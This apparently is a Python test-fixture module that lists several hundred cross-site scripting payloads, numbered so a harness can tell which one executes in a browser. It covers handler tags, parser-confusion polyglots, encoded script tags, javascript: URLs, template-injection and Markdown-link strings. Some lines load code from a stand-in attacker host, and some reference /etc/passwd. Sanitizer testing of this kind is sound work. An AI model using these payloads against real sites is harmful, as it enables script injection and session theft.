"""Strings that become programs wherever somebody forgets to escape them.

Each calls ``alert(N)``, N being its number, so that a browser can tell which
one ran.  The ideas are those of the public lists (OWASP's and PortSwigger's
cheat sheets, html5sec, the polyglots of the trade); the strings are ours.
"""

from __future__ import annotations

from collections.abc import Iterator

_HANDLERS = """\
img src=x onerror
img src=data:, onerror
img srcset=x onerror
image src=x onerror
svg onload
svg/onload
body onload
body onpageshow
body onhashchange
body onresize
frameset onload
input autofocus onfocus
input onblur autofocus tabindex=1 id=i
select autofocus onfocus
textarea autofocus onfocus
button autofocus onfocus
keygen autofocus onfocus
a href=# onclick
a tabindex=1 onfocus
a onmouseover
b onmouseenter
p onpointerover
div onpointermove
div onwheel
div onscroll style=overflow:scroll;height:1px
details open ontoggle
details ontoggle open=1
video onerror><source
video src=x onerror
video autoplay onloadstart><source
audio src=x onerror
audio autoplay onloadstart
object data=x onerror
object onload type=text/html
embed src=x onload
iframe onload
iframe src=javascript:0 onload
marquee onstart
marquee onbounce loop=1
marquee width=1 loop=1 onfinish
isindex autofocus onfocus
style onload
style onerror
link rel=stylesheet href=x onerror
link rel=stylesheet href=data:, onload
script src=x onerror
script src=data:, onload
track onerror src=x default
dialog open onclose
meter onmouseover
form onsubmit
form onreset
form oninput
input type=image src=x onerror
xss tabindex=1 onfocus autofocus
xss contenteditable onfocus autofocus
xss onbeforecopy contenteditable
xss onanimationstart style=animation-name:x
xss ontransitionend style=transition:all+1s
svg><animate onbegin
svg><animate onend dur=1ms
svg><set onbegin
svg><image href=x onerror
svg><use href=x onerror
svg><discard onbegin
svg><animatetransform onbegin
svg><a><rect onclick width=99 height=99
math onclick
math><mi onmouseover
p popover id=p onbeforetoggle
img loading=lazy src=x onerror
template><img src=x onerror
noscript><img src=x onerror
noembed><img src=x onerror
title><img src=x onerror
table background=x onerror
td onmouseover
ruby onmouseover
summary onfocus tabindex=1
fieldset onfocusin tabindex=1
label onauxclick
picture><source srcset=x><img onerror src=x
portal src=x onload
fencedframe onload
bgsound onload src=x
""".splitlines()
"""Tags with a handler that has no value yet."""

_WHOLE = """\
<script>alert(0)</script>
<SCRIPT>alert(0)</SCRIPT>
<script/x>alert(0)</script/x>
<script\t>alert(0)</script >
<scr<script>ipt>alert(0)</scr</script>ipt>
<script>alert(0)
<script type=module>alert(0)</script>
<script type=text/javascript charset=utf-8>alert(0)</script>
<script src=data:text/javascript,alert(0)></script>
<script xmlns=http://www.w3.org/2000/svg>alert(0)</script>
<svg><script>alert(0)</script></svg>
<svg><script>alert&#40;0)</script></svg>
<svg><script href=data:,alert(0)></script></svg>
<svg><style><img src=x onerror=alert(0)></style></svg>
<svg><title><img src=x onerror=alert(0)></title></svg>
<svg><desc><![CDATA[<img src=x onerror=alert(0)>]]></desc></svg>
<svg><foreignObject><img src=x onerror=alert(0)></foreignObject></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(0)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(0)>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(0)></annotation-xml>
<math><mi//xlink:href="data:x,<script>alert(0)</script>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(0)>
<noscript><p title="</noscript><img src=x onerror=alert(0)>">
<textarea><img title="</textarea><img src=x onerror=alert(0)>">
<xmp><p title="</xmp><img src=x onerror=alert(0)>">
<iframe srcdoc="<script>parent.alert(0)</script>"></iframe>
<iframe srcdoc=&lt;script&gt;parent.alert(0)&lt;/script&gt;></iframe>
<iframe src=javascript:parent.alert(0)></iframe>
<iframe src="data:text/html,<script>parent.alert(0)</script>"></iframe>
<object data=javascript:alert(0)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0Pg=="></object>
<embed src=javascript:alert(0)>
<a href=javascript:alert(0)>x</a>
<a href=" &#1; javascript:alert(0)">x</a>
<a href="java&#9;script:alert(0)">x</a>
<a href="java&NewLine;script&colon;alert(0)">x</a>
<a href="&#106;&#97;&#118;&#97;script:alert(0)">x</a>
<a href=data:text/html,<script>alert(0)</script>>x</a>
<svg><a xlink:href=javascript:alert(0)><text y=20>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(0) /><text y=20>x</text></svg>
<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=alert(0) /></svg>#x">
<form action=javascript:alert(0)><button>x</button></form>
<form id=f></form><button form=f formaction=javascript:alert(0)>x</button>
<isindex action=javascript:alert(0) type=submit>
<base href=javascript:alert(0)//>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(0)">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>alert(0)</script>>
<link rel=preload as=script href=//evil.example/x.js>
<style>@import url(//evil.example/x.css);</style>
<style>*{background:url(//evil.example/x)}</style>
<style>*{background:url(javascript:alert(0))}</style>
<div style="background:url(//evil.example/x)">
<div style="width:expression(alert(0))">
<img src=//evil.example/x>
<img src="javascript:alert(0)">
<input type=image src=//evil.example/x>
<video poster=//evil.example/x></video>
<!--<img src="--><img src=x onerror=alert(0)>">
<!--[if gte IE 4]><script>alert(0)</script><![endif]-->
<!--><img src=x onerror=alert(0)>-->
<!doctype html [<!entity x "<script>alert(0)</script>">]>&x;
<?xml-stylesheet href="javascript:alert(0)"?>
<%<!--'%><script>alert(0)</script -->
<![CDATA[<script>alert(0)</script>]]>
]]><script>alert(0)</script>
--><script>alert(0)</script><!--
--!><img src=x onerror=alert(0)>
</title><script>alert(0)</script>
</style><script>alert(0)</script>
</script><script>alert(0)</script>
</textarea><script>alert(0)</script>
</noscript><script>alert(0)</script>
</template><script>alert(0)</script>
</select><script>alert(0)</script>
</svg><script>alert(0)</script>
</iframe><script>alert(0)</script>
</xmp></plaintext><script>alert(0)</script>
"><script>alert(0)</script>
'><script>alert(0)</script>
`><script>alert(0)</script>
" onmouseover="alert(0)
' onmouseover='alert(0)
" onfocus="alert(0)" autofocus tabindex="1
' onfocus='alert(0)' autofocus tabindex='1
" style="animation-name:x" onanimationstart="alert(0)
"onerror="alert(0)"src="x
x" onclick=alert(0)//
&quot; onfocus=&quot;alert(0)
&#34;&gt;&lt;img src=x onerror=alert(0)&gt;
&lt;script&gt;alert(0)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(0)&amp;gt;
&#x3c;script&#x3e;alert(0)&#x3c;/script&#x3e;
%3Cscript%3Ealert(0)%3C/script%3E
%22%3E%3Cimg%20src=x%20onerror=alert(0)%3E
\\u003cscript\\u003ealert(0)\\u003c/script\\u003e
\\x3cimg src=x onerror=alert(0)\\x3e
+ADw-script+AD4-alert(0)+ADw-/script+AD4-
\u00bcscript\u00bealert(0)\u00bc/script\u00be
\uff1cscript\uff1ealert(0)\uff1c/script\uff1e
<\u200bscript>alert(0)</script>
<img\u00a0src=x onerror=alert(0)>
<img src=x\u2028onerror=alert(0)>
\u202e<script>alert(0)</script>\u202c
<b\x00><script\x0b>alert(0)</script>
<img src=x \x00onerror=alert(0)>
";alert(0);//
';alert(0);//
\\";alert(0);//
</script><img src=x onerror=alert(0)>
${alert(0)}
`;alert(0);`
*/alert(0)/*
}};alert(0);{{
{{ alert(0) }}
{{constructor.constructor('alert(0)')()}}
{{ ''.__class__.__mro__[1].__subclasses__() }}<img src=x onerror=alert(0)>
{% raw %}<img src=x onerror=alert(0)>{% endraw %}
{% include '/etc/passwd' %}<script>alert(0)</script>
<%= alert(0) %>
#{alert(0)}
[x](javascript:alert(0))
[x](JaVaScRiPt:alert(0))
[x](javascript&colon;alert(0))
[x](java\tscript:alert(0))
[x](\x01javascript:alert(0))
[x](vbscript:alert(0))
[x](data:text/html,<script>alert(0)</script>)
[x](blob:javascript:alert(0))
[x](view-source:javascript:alert(0))
[x](http://a.example/"onmouseover="alert(0))
[x](http://a.example/'onmouseover='alert(0))
[x](<javascript:alert(0)>)
[x](http://a.example/ "x\\" onmouseover=\\"alert(0)")
[x](http://a.example/><script>alert(0)</script>)
[x](http://javascript:alert(0)@a.example/)
[x](//evil.example/x)
![x](javascript:alert(0))
![x" onerror="alert(0)](x)
![x](x" onerror="alert(0))
![x](http://a.example/x"onerror="alert(0))
[![x](x)](javascript:alert(0))
[x]: javascript:alert(0)
[<img src=x onerror=alert(0)>](http://a.example/)
[x][<script>alert(0)</script>]
<javascript:alert(0)>
<http://a.example/"onmouseover="alert(0)>
<x@y"onmouseover="alert(0)>
`<script>`<script>alert(0)</script>
``<img src=x onerror=alert(0)>``
**<img src=x onerror=alert(0)>**
*<svg/onload=alert(0)>*
~~<svg onload=alert(0)>~~
> <img src=x onerror=alert(0)>
```<script>alert(0)</script>
    <script>alert(0)</script>
$<img src=x onerror=alert(0)>$
$\\href{javascript:alert(0)}{x}$
$$\\html{<img src=x onerror=alert(0)>}$$
$\\text{</script><script>alert(0)</script>}$
$\\unicode{x3c}script>alert(0)$
#<img src=x onerror=alert(0)>#
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+alert(0)//'>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=alert(0) )//</stYle/</titLe/<svg/oNloAd=alert(0)>
'">><marquee><img src=x onerror=alert(0)></marquee>"></|\\><plaintext/onmouseover=alert(0)>
'"--></style></script><script>alert(0)</script>
""".removesuffix("\n").split("\n")


def attacks() -> tuple[str, ...]:
    """Every string, each with its own number in it."""
    return tuple(text.replace("alert(0)", f"alert({n})") for n, text in enumerate(_all()))


def _all() -> Iterator[str]:
    for handler in _HANDLERS:
        yield f"<{handler}=alert(0)>x"
    yield from _WHOLE


ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})//http://a.example/",
    "\x01javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:alert({n})",
    'https://a.example/{n}"onmouseover="alert({n})',
    "https://a.example/{n}'><script>alert({n})</script>",
    "https://a.example/{n}?x=<svg/onload=alert({n})>",
    "//evil.example/{n}",
    "file:///etc/passwd#{n}",
)
"""What an address in a ledger may be, when somebody has meddled with it."""
